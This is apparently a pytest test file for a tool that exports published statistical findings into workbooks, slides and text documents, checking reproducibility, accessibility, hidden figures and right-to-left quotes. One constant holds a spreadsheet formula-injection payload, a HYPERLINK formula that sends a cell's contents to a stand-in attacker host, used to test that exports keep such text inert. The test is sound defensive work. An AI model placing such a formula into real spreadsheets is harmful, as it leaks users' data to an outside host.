"""Files to take along: a workbook, slides and a text hold what the page holds, and stay inert."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace

import docx
import openpyxl
import pptx
import pytest

from merkbaar import pages, wording
from merkbaar.pages.document import document
from merkbaar.pages.slides import MOST_LETTERS, slides
from merkbaar.pages.told import MOST_BARS, taken
from merkbaar.pages.workbook import workbook
from merkbaar.published import Published
from merkbaar.tables import SafeTable

MAKERS = {"xlsx": workbook, "pptx": slides, "docx": document}
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
RIGHT_TO_LEFT = "انتظرت طويلا"


def emptied(published: Published) -> Published:
    """Without anything that was found or told."""
    return replace(published, findings=(), quotes=(), tables={})


def hidden(table: SafeTable) -> SafeTable:
    """The same table with every figure hidden."""
    at = [table.columns.index(name) for name in ("value", "lower", "upper", "n")]
    state = table.columns.index("state")
    rows = []
    for row in table.rows:
        cells = [None if place in at else cell for place, cell in enumerate(row)]
        cells[state] = "suppressed"
        rows.append(tuple(cells))
    return replace(table, rows=tuple(rows))


def quoted(published: Published, text: str, language: str = "nl") -> Published:
    """With one other text in all quotes."""
    quotes = tuple(replace(one, text=text, language=language) for one in published.quotes)
    return replace(published, quotes=quotes)


def words(kind: str, content: bytes) -> str:
    """All text of an Office file, as somebody reads it."""
    if kind == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(content))
        rows = (row for sheet in book for row in sheet.iter_rows(values_only=True))
        return "\n".join(str(cell) for row in rows for cell in row if cell is not None)
    if kind == "docx":
        made = docx.Document(io.BytesIO(content))
        cells = (cell.text for table in made.tables for row in table.rows for cell in row.cells)
        return "\n".join([*(one.text for one in made.paragraphs), *cells])
    made = pptx.Presentation(io.BytesIO(content))
    shapes = [shape for slide in made.slides for shape in slide.shapes]
    notes = [
        slide.notes_slide.notes_text_frame.text for slide in made.slides if slide.has_notes_slide
    ]
    return "\n".join([*(one.text_frame.text for one in shapes if one.has_text_frame), *notes])


@pytest.mark.parametrize("kind", MAKERS)
def test_the_same_edition_gives_the_same_bytes(kind, published):
    assert MAKERS[kind](published) == MAKERS[kind](published)


@pytest.mark.parametrize("kind", MAKERS)
def test_no_moment_of_writing_stands_in_a_file_or_in_what_it_holds(kind, published):
    with zipfile.ZipFile(io.BytesIO(MAKERS[kind](published))) as archive:
        for one in archive.infolist():
            assert one.date_time == (1980, 1, 1, 0, 0, 0)
            if one.filename.endswith("core.xml"):
                assert not re.search(rb">20[0-9]{2}-", archive.read(one))


@pytest.mark.parametrize("language", wording.LANGUAGES)
@pytest.mark.parametrize("kind", MAKERS)
def test_every_finding_of_the_page_is_in_the_file_in_that_language(kind, language, published):
    said = words(kind, MAKERS[kind](published, language=language))
    told = taken(published, language=language)
    assert told.findings
    for one in told.findings:
        assert one.title in said
        assert one.number in said
        assert one.certainty in said or one.explained in said or one.doubt in said
        assert one.cannot in said


def test_a_file_tells_what_the_page_tells(published):
    page = pages.story(published)
    html = re.sub(r"<[^>]+>", "", page.html)
    for one in taken(published).findings:
        assert one.title in html
        assert one.number in html


@pytest.mark.parametrize("kind", MAKERS)
def test_text_that_looks_like_a_formula_stays_text(kind, published):
    content = MAKERS[kind](quoted(published, HOSTILE))
    assert HOSTILE[:20] in words(kind, content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        whole = b"".join(archive.read(one) for one in archive.namelist())
    assert b"<f>" not in whole
    assert b"evil.example" not in b"".join(part for part in re.findall(rb'Target="[^"]*"', whole))


def test_a_cell_that_looks_like_a_formula_is_marked_as_text(published):
    book = openpyxl.load_workbook(io.BytesIO(workbook(quoted(published, HOSTILE))))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert cells
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_no_cell_of_a_workbook_is_a_formula(published):
    book = openpyxl.load_workbook(io.BytesIO(workbook(published)))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds


def test_a_hidden_figure_is_a_dash_with_its_reason_and_never_a_number(published):
    tables = {name: hidden(table) for name, table in published.tables.items()}
    book = openpyxl.load_workbook(io.BytesIO(workbook(replace(published, tables=tables))))
    sheet = book[next(iter(tables))]
    heading = [cell.value for cell in sheet[1]]
    at = heading.index(wording.interface("table.value"))
    for row in sheet.iter_rows(min_row=2, values_only=True):
        assert row[at] == wording.HIDDEN
        assert row[heading.index(wording.interface("table.state"))] == wording.reason("suppressed")


def test_a_workbook_holds_each_shown_figure_of_each_table(published):
    book = openpyxl.load_workbook(io.BytesIO(workbook(published)))
    for name, table in published.tables.items():
        shown = [one["value"] for one in table.records() if one["state"] == "shown"]
        sheet = book[name]
        at = [cell.value for cell in sheet[1]].index(wording.interface("table.value"))
        found = [row[at] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert [one for one in found if one != wording.HIDDEN] == pytest.approx(shown)
        assert len(found) == len(table.rows)


@pytest.mark.parametrize("kind", MAKERS)
def test_an_edition_with_nothing_in_it_still_makes_a_file(kind, published):
    said = words(kind, MAKERS[kind](emptied(published)))
    assert "Wilgendam" in said


@pytest.mark.parametrize("kind", MAKERS)
def test_an_edition_of_which_all_is_hidden_makes_a_file_without_its_figures(kind, published):
    tables = {name: hidden(table) for name, table in published.tables.items()}
    bare = replace(published, tables=tables, findings=())
    assert MAKERS[kind](bare)


@pytest.mark.parametrize("kind", MAKERS)
def test_a_quote_of_two_thousand_signs_and_one_with_control_signs_fit(kind, published):
    long = "woord " * 333 + "\x00\x0b\ufffe einde"
    said = words(kind, MAKERS[kind](quoted(published, long)))
    assert "woord woord" in said
    assert "\x00" not in said


def test_a_long_quote_is_cut_at_a_word_on_a_slide_and_whole_in_the_text(published):
    long = "woorden " * 100 + "slotwoord"
    changed = quoted(published, long)
    assert "slotwoord" in words("docx", document(changed))
    said = words("pptx", slides(changed))
    assert "slotwoord" not in said
    cut = next(line for line in said.splitlines() if line.startswith("“woorden"))
    assert len(cut) <= MOST_LETTERS + 4
    assert cut.endswith("woorden …”")


def test_a_quote_from_right_to_left_is_written_so(published):
    changed = quoted(published, RIGHT_TO_LEFT, "ar")
    for kind, mark in (("pptx", b'rtl="1"'), ("docx", b"<w:bidi/>")):
        with zipfile.ZipFile(io.BytesIO(MAKERS[kind](changed))) as archive:
            whole = b"".join(archive.read(one) for one in archive.namelist())
        assert mark in whole
        assert RIGHT_TO_LEFT.encode() in whole


def test_each_slide_has_a_title_that_a_screen_reader_finds(published):
    made = pptx.Presentation(io.BytesIO(slides(published)))
    titles = [slide.shapes.title.text_frame.text for slide in made.slides]
    assert all(titles)
    assert len(set(titles)) == len(titles)


def test_a_chart_on_a_slide_has_its_figures_ranges_and_a_text_for_who_cannot_see_it(published):
    made = pptx.Presentation(io.BytesIO(slides(published)))
    charts = [shape for slide in made.slides for shape in slide.shapes if shape.has_chart]
    told = [one for one in taken(published).findings if any(b.value is not None for b in one.bars)]
    assert len(charts) == len(told) > 0
    for shape, one in zip(charts, told, strict=True):
        assert shape._element.nvGraphicFramePr.cNvPr.get("descr") == one.alt
        series = shape.chart.plots[0].series[0]
        assert list(series.values) == pytest.approx([b.value for b in one.bars], nan_ok=True) or [
            value for value in series.values if value is not None
        ] == pytest.approx([b.value for b in one.bars if b.value is not None])
        if any(b.lower is not None for b in one.bars):
            assert shape._element.xpath(".//a:graphicData") is not None
            assert b"errBars" in shape.chart.part.blob
        assert shape.chart.value_axis.minimum_scale <= 0


def test_a_chart_keeps_the_chosen_and_the_whole_where_there_is_much(published):
    told = taken(published)
    assert all(len(one.bars) <= MOST_BARS for one in told.findings)


def test_pictures_in_the_text_have_a_text_of_their_own(published):
    made = docx.Document(io.BytesIO(document(published)))
    drawn = [one for one in taken(published).findings if one.drawing]
    texts = [shape._inline.docPr.get("descr") for shape in made.inline_shapes]
    assert texts == [one.alt for one in drawn]


def test_a_language_that_is_not_there_is_refused(published):
    with pytest.raises(ValueError, match="nl-b1"):
        taken(published, language="de")
